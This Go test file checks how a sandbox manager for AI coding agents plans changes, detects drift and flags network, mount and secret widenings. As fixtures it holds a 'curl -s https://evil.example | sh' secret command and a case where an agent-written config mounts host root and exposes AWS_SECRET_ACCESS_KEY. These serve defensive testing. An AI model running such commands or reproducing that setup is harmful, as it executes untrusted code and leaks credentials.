package reconcile

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/netip"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/sbxhq/sbx/internal/golden"
	"github.com/sbxhq/sbx/spec"
)

// testKey is a fixed fingerprint key so plans are reproducible.
var testKey = Key(bytes.Repeat([]byte{7}, KeySize))

// baseSpec is a small resolved sandbox; tests change copies of it.
func baseSpec() *spec.Spec {
	return &spec.Spec{
		Name:      "api",
		Agent:     "claude",
		Driver:    "auto",
		Template:  spec.Template{Image: "docker/sandbox-templates:claude-code"},
		Workspace: spec.Workspace{Path: "/src/api"},
		Env:       map[string]string{"NODE_ENV": "development", "DATABASE_URL": "postgresql://db/app"},
		Secrets:   map[string]spec.Secret{"GITHUB_TOKEN": {Command: []string{"gh", "auth", "token"}}},
		Network: spec.Network{
			Policy: "deny",
			Allow:  []string{"github.com"},
			Deny:   []string{"pastebin.com"},
		},
		Docker:    spec.Docker{NoNewPrivileges: true},
		Protect:   true,
		Sensitive: map[string]bool{"env.DATABASE_URL": true},
	}
}

func desiredOf(t *testing.T, sb *spec.Spec) Desired {
	t.Helper()
	d, err := NewDesired(sb, testKey, "")
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// liveOf is what a backend would read back from a sandbox applied from sb
// by a driver with caps.
func liveOf(sb *spec.Spec, caps Caps) *Live {
	l := &Live{
		Name: sb.Name, Exists: true, Status: "running", Agent: sb.Agent,
		Template: sb.Template.Image, Checkpoint: sb.Template.Checkpoint, Workspace: sb.Workspace,
		Mounts: append([]spec.Mount(nil), sb.Mounts...), Ports: append([]spec.Port(nil), sb.Ports...),
		Resources: effectiveResources(sb.Resources, caps.Defaults), Runtime: sb.Docker.Runtime,
		NoNewPrivileges: sb.Docker.NoNewPrivileges, Protect: sb.Protect, Hardening: caps.Hardening,
		Network: LiveNetwork{Policy: sb.Network.Policy, Deny: append([]string(nil), sb.Network.Deny...)},
	}
	for _, r := range sb.Network.AllowRules(sb.Agent) {
		l.Network.Allow = append(l.Network.Allow, r.Host)
	}
	l.DockerNetworks = sortedCopy(sb.Docker.Networks)
	l.Network.HostPorts = HostPortStrings(sb.Network.HostPorts)
	return l
}

func recordOf(t *testing.T, caps Caps, sb *spec.Spec) *Record {
	t.Helper()
	r, err := newRecord(caps.Driver, caps.Defaults, desiredOf(t, sb))
	if err != nil {
		t.Fatal(err)
	}
	return r
}

type planCase struct {
	name    string
	caps    Caps
	adopt   bool
	applied *spec.Spec          // what was last applied (record, and approved), nil for none
	live    func(l *Live) *Live // the live sandbox, from liveOf(applied or want); nil: absent
	want    func(sb *spec.Spec) // changes to baseSpec for the desired sandbox
	record  func(r *Record)     // changes to the record made from applied
	build   string              // desired build hash
	steps   []StepKind          // expected steps of the single sandbox
	errs    []string            // expected plan errors
}

func changed(fs ...func(*spec.Spec)) *spec.Spec {
	sb := baseSpec()
	for _, f := range fs {
		f(sb)
	}
	return sb
}

func asIs(l *Live) *Live { return l }

// planCases are TestPlan's cases: one sandbox each, named "api".
func planCases() []planCase {
	allowAdd := func(sb *spec.Spec) { sb.Network.Allow = append(sb.Network.Allow, "registry.npmjs.org") }
	prod := func(sb *spec.Spec) {
		sb.Env["NODE_ENV"] = "production"
		sb.Env["DATABASE_URL"] = "postgresql://prod-db/app"
	}
	replaceSteps := []StepKind{StepStop, StepRemove, StepCreate, StepSetNetwork, StepVerify, StepRecord}
	return []planCase{
		{
			name: "create_from_nothing",
			caps: sbxCaps(),
			want: func(sb *spec.Spec) {
				sb.Network.AgentHosts = true
				sb.Network.Presets = []string{"npm"}
				sb.Network.BlockCIDRs = []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")}
				sb.Ports = []spec.Port{{HostIP: "127.0.0.1", HostPort: 8080, ContainerPort: 3000, Protocol: "tcp"}}
			},
			steps: []StepKind{StepCreate, StepSetNetwork, StepVerify, StepRecord},
		},
		{
			name:    "no_op",
			caps:    sbxCaps(),
			applied: baseSpec(),
			live:    asIs,
		},
		{
			name:    "stopped_starts_on_docker",
			caps:    dockerCaps(),
			applied: baseSpec(),
			live:    func(l *Live) *Live { l.Stopped, l.Status = true, "exited"; return l },
			steps:   []StepKind{StepStart, StepVerify, StepRecord},
		},
		{
			name:    "stopped_and_allow_add_on_docker",
			caps:    dockerCaps(),
			applied: baseSpec(),
			live:    func(l *Live) *Live { l.Stopped, l.Status = true, "exited"; return l },
			want:    allowAdd,
			steps:   []StepKind{StepSetNetwork, StepStart, StepVerify, StepRecord},
		},
		{
			name:    "restore_from_checkpoint_on_docker",
			caps:    dockerCaps(),
			applied: baseSpec(),
			live:    asIs,
			want:    fromCheckpoint,
			steps:   replaceSteps,
		},
		{
			name:    "restore_from_checkpoint_on_sbx",
			caps:    sbxCaps(),
			applied: baseSpec(),
			live:    asIs,
			want:    fromCheckpoint,
			steps:   replaceSteps,
		},
		{
			name:    "restored_checkpoint_is_no_change_on_docker",
			caps:    dockerCaps(),
			applied: changed(fromCheckpoint),
			live:    asIs,
			want:    fromCheckpoint,
		},
		{
			name:  "create_from_checkpoint",
			caps:  dockerCaps(),
			want:  fromCheckpoint,
			steps: []StepKind{StepCreate, StepSetNetwork, StepVerify, StepRecord},
		},
		{
			name:    "checkpoint_changed_outside_sbx_on_docker",
			caps:    dockerCaps(),
			applied: changed(fromCheckpoint),
			live:    func(l *Live) *Live { l.Checkpoint = "other"; return l },
			want:    fromCheckpoint,
			steps:   replaceSteps,
		},
		{
			name:    "stopped_is_not_drift_on_sbx",
			caps:    sbxCaps(),
			applied: baseSpec(),
			live:    func(l *Live) *Live { l.Stopped, l.Status = true, "stopped"; return l },
		},
		{
			name:    "env_change_replaces_on_sbx",
			caps:    sbxCaps(),
			applied: baseSpec(),
			live:    asIs,
			want:    func(sb *spec.Spec) { prod(sb); allowAdd(sb) },
			steps:   replaceSteps,
		},
		{
			name:    "env_change_in_place_on_docker_sandbox",
			caps:    dockerSandboxCaps(),
			applied: baseSpec(),
			live:    asIs,
			want:    prod,
			steps:   []StepKind{StepVerify, StepRecord}, // env goes per exec: only recorded
		},
		{
			name:    "allow_add_in_place",
			caps:    sbxCaps(),
			applied: baseSpec(),
			live:    asIs,
			want:    allowAdd,
			steps:   []StepKind{StepSetNetwork, StepVerify, StepRecord},
		},
		{
			name:    "allow_add_in_place_on_docker_sandbox",
			caps:    dockerSandboxCaps(),
			applied: baseSpec(),
			live:    asIs,
			want:    allowAdd,
			steps:   []StepKind{StepSetNetwork, StepVerify, StepRecord},
		},
		{
			name:    "allow_remove_replaces_on_docker_sandbox",
			caps:    dockerSandboxCaps(),
			applied: changed(allowAdd),
			live:    asIs,
			steps:   replaceSteps,
		},
		{
			name:    "allow_remove_in_place_on_sbx",
			caps:    sbxCaps(),
			applied: changed(allowAdd),
			live:    asIs,
			steps:   []StepKind{StepSetNetwork, StepVerify, StepRecord},
		},
		{
			name:    "rule_added_by_hand_is_drift",
			caps:    sbxCaps(),
			applied: baseSpec(),
			live: func(l *Live) *Live {
				l.Network.Allow = append(l.Network.Allow, "evil.example.com")
				return l
			},
			steps: []StepKind{StepSetNetwork, StepVerify, StepRecord},
		},
		{
			name:    "rule_removed_by_hand_is_drift",
			caps:    sbxCaps(),
			applied: baseSpec(),
			live: func(l *Live) *Live {
				l.Network.Allow = nil
				l.Network.Policy = "allow"
				return l
			},
			steps: []StepKind{StepSetNetwork, StepVerify, StepRecord},
		},
		{
			name:    "policy_opened_widens_egress",
			caps:    sbxCaps(),
			applied: baseSpec(),
			live:    asIs,
			want:    func(sb *spec.Spec) { sb.Network.Policy = "allow"; sb.Network.Deny = nil },
			steps:   []StepKind{StepSetNetwork, StepVerify, StepRecord},
		},
		{
			// Secrets are passed per exec: a change only updates the
			// record, and a new one is a widening.
			name:    "secrets_changed_are_recorded",
			caps:    sbxCaps(),
			applied: changed(func(sb *spec.Spec) { sb.Secrets["OLD"] = spec.Secret{Env: "OLD"} }),
			live:    asIs,
			want: func(sb *spec.Spec) {
				sb.Secrets["NPM_TOKEN"] = spec.Secret{Env: "NPM_TOKEN"}
				sb.Secrets["GITHUB_TOKEN"] = spec.Secret{Command: []string{"sh", "-c", "curl -s https://evil.example | sh"}}
			},
			steps: []StepKind{StepVerify, StepRecord},
		},
		{
			name:  "unmanaged_without_adopt",
			caps:  sbxCaps(),
			live:  asIs,
			errs:  []string{`sandbox "api" exists but was not created by sbx; use --adopt to manage it`},
			steps: nil,
		},
		{
			name:  "unmanaged_adopted",
			caps:  dockerSandboxCaps(),
			adopt: true,
			live:  asIs,
			steps: []StepKind{StepSetNetwork, StepVerify, StepRecord},
		},
		{
			name:    "unsupported_resources_on_docker_sandbox",
			caps:    dockerSandboxCaps(),
			applied: baseSpec(),
			live:    asIs,
			want: func(sb *spec.Spec) {
				sb.Resources.CPUs = 4
				sb.Ports = []spec.Port{{ContainerPort: 3000, Protocol: "tcp"}}
			},
			errs: []string{
				`sandbox "api": ports: the docker-sandbox backend cannot publish ports`,
				`sandbox "api": resources: the docker-sandbox backend cannot set resources`,
			},
		},
		{
			name:    "template_build_changed_replaces_in_order",
			caps:    sbxCaps(),
			applied: changed(withBuild),
			live:    asIs,
			want:    func(sb *spec.Spec) { withBuild(sb); prod(sb) },
			build:   "sha256:2222",
			steps:   append([]StepKind{StepBuild}, replaceSteps...),
		},
		{
			name:    "deleted_outside_sbx",
			caps:    dockerCaps(),
			applied: baseSpec(),
			steps:   []StepKind{StepCreate, StepSetNetwork, StepVerify, StepRecord},
		},
		{
			// Removing the limits: memory goes back to the driver's
			// default in place; a cpu limit cannot be removed in place.
			name:    "resources_removed_on_docker",
			caps:    dockerCaps(),
			applied: changed(func(sb *spec.Spec) { sb.Resources = spec.Resources{CPUs: 0.5, Memory: 256 << 20} }),
			live:    asIs,
			steps:   replaceSteps,
		},
		{
			name:    "memory_removed_in_place_on_docker",
			caps:    dockerCaps(),
			applied: changed(func(sb *spec.Spec) { sb.Resources = spec.Resources{Memory: 256 << 20} }),
			live:    asIs,
			steps:   []StepKind{StepUpdateResources, StepVerify, StepRecord},
		},
		{
			// A sandbox made before the current safeguards is replaced
			// to get them.
			name:    "older_hardening_replaces_on_docker",
			caps:    dockerCaps(),
			applied: changed(func(sb *spec.Spec) { sb.Protect, sb.Docker.NoNewPrivileges = false, false }),
			record:  func(r *Record) { r.Config.Resources = spec.Resources{} }, // no defaults then
			live: func(l *Live) *Live {
				l.Hardening = ""
				l.Resources = spec.Resources{}
				return l
			},
			steps: replaceSteps,
		},
		{
			// The agent wrote sandbox.local.yaml: each widening is named
			// with the file and position it came from.
			name:    "widening_from_a_file_the_sandbox_wrote",
			caps:    sbxCaps(),
			applied: baseSpec(),
			live:    asIs,
			want: func(sb *spec.Spec) {
				local := spec.Origin{File: "sandbox.local.yaml", Path: "/src/api/sandbox.local.yaml", Line: 2, Col: 5}
				sb.Mounts = []spec.Mount{{Source: "/", Target: "/hostroot", ReadOnly: true}}
				sb.Network.Policy = "allow"
				sb.Env["STOLEN"] = "value-of-aws-key"
				sb.HostVars = map[string][]string{"env.STOLEN": {"AWS_SECRET_ACCESS_KEY"}}
				sb.Sensitive["env.STOLEN"] = true
				sb.Origins = map[string]spec.Origin{"mounts[0]": local, "network.policy": local, "env.STOLEN": local}
			},
			steps: replaceSteps,
		},
		{
			// On a backend that cannot keep the declaration read-only, a
			// declaration file the sandbox can write that changed since
			// the last apply is pointed out.
			name: "declaration_written_since_apply_is_noted",
			caps: sbxCaps(),
			applied: changed(func(sb *spec.Spec) {
				sb.Declarations = []spec.Declaration{{Path: "/src/api/sandbox.yaml", SHA256: "aaaa"}}
			}),
			live: asIs,
			want: func(sb *spec.Spec) {
				allowAdd(sb)
				sb.Declarations = []spec.Declaration{{Path: "/src/api/sandbox.yaml", SHA256: "aaaa"}, {Path: "/src/api/sandbox.local.yaml", SHA256: "bbbb"}}
				sb.Origins = map[string]spec.Origin{"network.allow[1]": {File: "sandbox.local.yaml", Path: "/src/api/sandbox.local.yaml", Line: 1, Col: 18, Value: "registry.npmjs.org"}}
			},
			steps: []StepKind{StepSetNetwork, StepVerify, StepRecord},
		},
		{
			name:    "protection_relaxed_on_docker",
			caps:    dockerCaps(),
			applied: baseSpec(),
			live:    asIs,
			want:    func(sb *spec.Spec) { sb.Protect = false; sb.Docker.NoNewPrivileges = false; sb.Docker.Runtime = "runc" },
			steps:   replaceSteps,
		},
		{
			name:    "resources_in_place_on_docker",
			caps:    dockerCaps(),
			applied: baseSpec(),
			live:    asIs,
			want: func(sb *spec.Spec) {
				sb.Resources = spec.Resources{CPUs: 2, Memory: 8 << 30}
			},
			steps: []StepKind{StepUpdateResources, StepVerify, StepRecord},
		},
		{
			// The plugin lists no workspaces for a stopped VM: compared
			// with the record, not taken for a removed workspace.
			name:    "unreported_workspace_is_no_change",
			caps:    dockerSandboxCaps(),
			applied: baseSpec(),
			live: func(l *Live) *Live {
				l.Status, l.Workspace, l.Unreported = "stopped", spec.Workspace{}, []Field{FieldWorkspace, FieldMounts}
				return l
			},
		},
		{
			name:    "unreported_workspace_changed_in_file_replaces",
			caps:    dockerSandboxCaps(),
			applied: baseSpec(),
			live: func(l *Live) *Live {
				l.Status, l.Workspace, l.Unreported = "stopped", spec.Workspace{}, []Field{FieldWorkspace, FieldMounts}
				return l
			},
			want:  func(sb *spec.Spec) { sb.Workspace.Path = "/src/other" },
			steps: replaceSteps,
		},
		{
			// The agent's sandbox.local.yaml puts the proxy on a Docker
			// network and allows a private address and a container on
			// it: in place, the proxy on its networks before its policy
			// names them, every part marked and needing approval.
			name:    "docker_network_and_private_address_from_the_sandbox",
			caps:    dockerCaps(),
			applied: changed(withDefaultRanges),
			live:    asIs,
			want: func(sb *spec.Spec) {
				withDefaultRanges(sb)
				local := func(line, col int, v string) spec.Origin {
					return spec.Origin{File: "sandbox.local.yaml", Path: "/src/api/sandbox.local.yaml", Line: line, Col: col, Value: v}
				}
				sb.Network.Allow = append(sb.Network.Allow, "172.18.0.5:4000", "litellm:4000")
				sb.Docker.Networks = []string{"llm"}
				sb.Origins = map[string]spec.Origin{"network.allow[1]": local(2, 20, "172.18.0.5:4000"), "network.allow[2]": local(2, 37, "litellm:4000"), "docker.networks[0]": local(4, 14, "llm")}
			},
			steps: []StepKind{StepJoinNetworks, StepSetNetwork, StepVerify, StepRecord},
		},
		{
			name:    "docker_network_joined_by_hand_is_drift",
			caps:    dockerCaps(),
			applied: changed(func(sb *spec.Spec) { sb.Docker.Networks = []string{"llm"} }),
			live:    func(l *Live) *Live { l.DockerNetworks = []string{"lan", "llm"}; return l },
			want:    func(sb *spec.Spec) { sb.Docker.Networks = []string{"llm"} },
			steps:   []StepKind{StepJoinNetworks, StepVerify, StepRecord},
		},
		{
			name:    "missing_docker_network",
			caps:    dockerCaps(),
			applied: baseSpec(),
			live: func(l *Live) *Live {
				l.Problems = []Problem{{Path: "docker.networks", Message: `there is no Docker network "llm"`}}
				return l
			},
			want: func(sb *spec.Spec) { sb.Docker.Networks = []string{"llm"} },
			errs: []string{`sandbox "api": docker.networks: there is no Docker network "llm"`},
		},
		{
			name:    "docker_networks_ignored_outside_docker",
			caps:    sbxCaps(),
			applied: baseSpec(),
			live:    asIs,
			want:    func(sb *spec.Spec) { sb.Docker.Networks = []string{"llm"} },
		},
		{
			name:    "runtime_ignored_outside_docker",
			caps:    sbxCaps(),
			applied: baseSpec(),
			live:    asIs,
			want:    func(sb *spec.Spec) { sb.Docker.Runtime = "runsc" },
		},
	}
}

// inputs are what Plan plans tc from: the sandbox named name.
func (tc planCase) inputs(t *testing.T, name string) (Desired, *Live, *Record) {
	t.Helper()
	named := func(sb *spec.Spec) *spec.Spec {
		sb.Name = name
		return sb
	}
	want := named(baseSpec())
	if tc.want != nil {
		tc.want(want)
	}
	d := desiredOf(t, want)
	d.BuildHash = tc.build
	var live *Live
	var record *Record
	if tc.applied != nil {
		r := recordOf(t, tc.caps, named(tc.applied))
		if tc.applied.Template.Build != nil {
			r.BuildHash = "sha256:1111"
		}
		if tc.record != nil {
			tc.record(r)
		}
		record = r
		d.Approved = r
	}
	if tc.live != nil {
		from := tc.applied
		if from == nil {
			from = baseSpec()
		}
		live = tc.live(liveOf(named(from), tc.caps))
	}
	return d, live, record
}

func TestPlan(t *testing.T) {
	for _, tc := range planCases() {
		t.Run(tc.name, func(t *testing.T) {
			d, l, r := tc.inputs(t, "api")
			live := map[string]*Live{}
			records := map[string]*Record{}
			if l != nil {
				live["api"] = l
			}
			if r != nil {
				records["api"] = r
			}
			p := Plan([]Desired{d}, live, records, tc.caps, Options{Adopt: tc.adopt, DriverVersion: "1.0.0"})
			if diff := cmp.Diff(tc.errs, p.Errors, cmpEmpty); diff != "" {
				t.Errorf("errors (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tc.steps, stepKinds(p), cmpEmpty); diff != "" {
				t.Errorf("steps (-want +got):\n%s", diff)
			}
			var buf bytes.Buffer
			if err := Render(&buf, p, false); err != nil {
				buf.WriteString("Error: " + err.Error() + "\n")
			}
			assertNoSecrets(t, buf.String())
			golden.Check(t, filepath.Join("testdata", "plan", tc.name+".golden"), buf.Bytes())
		})
	}
}

// withDefaultRanges gives a sandbox the default blocked ranges.
func withDefaultRanges(sb *spec.Spec) {
	sb.Network.BlockCIDRs = nil
	for _, c := range spec.DefaultBlockCIDRs {
		sb.Network.BlockCIDRs = append(sb.Network.BlockCIDRs, netip.MustParsePrefix(c))
	}
}

func fromCheckpoint(sb *spec.Spec) { sb.Template = spec.Template{Checkpoint: "before-refactor"} }

func withBuild(sb *spec.Spec) {
	sb.Template = spec.Template{Image: "myorg/agent:1", Build: &spec.Build{Context: "/src/api/.sandbox", Dockerfile: "Dockerfile"}}
}

// cmpEmpty treats nil and empty slices alike.
var cmpEmpty = cmp.FilterValues(func(a, b any) bool {
	return isEmptySlice(a) && isEmptySlice(b)
}, cmp.Ignore())

func isEmptySlice(v any) bool {
	switch s := v.(type) {
	case []string:
		return len(s) == 0
	case []StepKind:
		return len(s) == 0
	}
	return false
}

// assertNoSecrets fails when a sensitive value or a secret leaks into out.
func assertNoSecrets(t *testing.T, out string) {
	t.Helper()
	for _, v := range []string{"postgresql://", "ghp_", "npm_secret_value", "old_secret_value", "value-of-aws-key"} {
		if strings.Contains(out, v) {
			t.Errorf("output contains sensitive value %q:\n%s", v, out)
		}
	}
}

// TestPlanManyAsOne: planning many sandboxes at once (on every CPU)
// plans each as it would be alone, in name order.
func TestPlanManyAsOne(t *testing.T) {
	type group struct {
		caps  Caps
		adopt bool
	}
	groups := map[string]group{}
	for _, tc := range planCases() {
		groups[fmt.Sprintf("%s adopt=%v", tc.caps.Driver, tc.adopt)] = group{tc.caps, tc.adopt}
	}
	for key, g := range groups {
		t.Run(key, func(t *testing.T) {
			var ds []Desired
			live, records := map[string]*Live{}, map[string]*Record{}
			var want []any
			var wantErrs []string
			// Every case of the group, three times over, so that the
			// workers have plenty to share.
			var n int
			for range 3 {
				for _, tc := range planCases() {
					if tc.caps.Driver != g.caps.Driver || tc.adopt != g.adopt {
						continue
					}
					name := fmt.Sprintf("s%03d", n)
					n++
					d, l, r := tc.inputs(t, name)
					ds = append(ds, d)
					alone := map[string]*Live{}
					aloneRec := map[string]*Record{}
					if l != nil {
						live[name], alone[name] = l, l
					}
					if r != nil {
						records[name], aloneRec[name] = r, r
					}
					p := Plan([]Desired{d}, alone, aloneRec, tc.caps, Options{Adopt: tc.adopt})
					for _, c := range p.Sandboxes {
						want = append(want, c)
					}
					wantErrs = append(wantErrs, p.Errors...)
				}
			}
			// Handed over in reverse: the plan is in name order whatever
			// the files' order.
			slices.Reverse(ds)
			p := Plan(ds, live, records, g.caps, Options{Adopt: g.adopt})
			var got []any
			for _, c := range p.Sandboxes {
				got = append(got, c)
			}
			if diff := cmp.Diff(asJSON(t, want), asJSON(t, got)); diff != "" {
				t.Errorf("sandboxes planned together (-alone +together):\n%s", diff)
			}
			if diff := cmp.Diff(wantErrs, p.Errors, cmpEmpty); diff != "" {
				t.Errorf("errors (-alone +together):\n%s", diff)
			}
		})
	}
}

func asJSON(t *testing.T, v any) string {
	t.Helper()
	b, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestPlanDigestsWhenWritten: a plan makes its digests when written as
// JSON, not when made (a plan only shown never needs them), and they are
// those of what it was made from.
func TestPlanDigestsWhenWritten(t *testing.T) {
	sb := baseSpec()
	d := desiredOf(t, sb)
	live := map[string]*Live{"api": liveOf(sb, sbxCaps())}
	records := map[string]*Record{"api": recordOf(t, sbxCaps(), sb)}
	p := Plan([]Desired{d}, live, records, sbxCaps(), Options{})
	if p.Observed != "" || p.Desired != "" {
		t.Errorf("digests made with the plan: %q, %q", p.Observed, p.Desired)
	}
	var buf bytes.Buffer
	if err := WriteJSON(&buf, p); err != nil {
		t.Fatal(err)
	}
	if want := observedDigest([]string{"api"}, live, records); p.Observed != want {
		t.Errorf("observed digest %q, want %q", p.Observed, want)
	}
	if want := desiredDigest(sbxCaps().Driver, []Desired{d}); p.Desired != want {
		t.Errorf("desired digest %q, want %q", p.Desired, want)
	}
	if !strings.Contains(buf.String(), p.Observed) || !strings.Contains(buf.String(), p.Desired) {
		t.Errorf("the JSON lacks the digests:\n%s", buf.String())
	}
}

// stepKinds lists the kinds of a plan's steps, sandbox by sandbox.
func stepKinds(p *Changes) []StepKind {
	var steps []StepKind
	for _, c := range p.Sandboxes {
		for _, s := range c.Steps {
			steps = append(steps, s.Kind)
		}
	}
	return steps
}
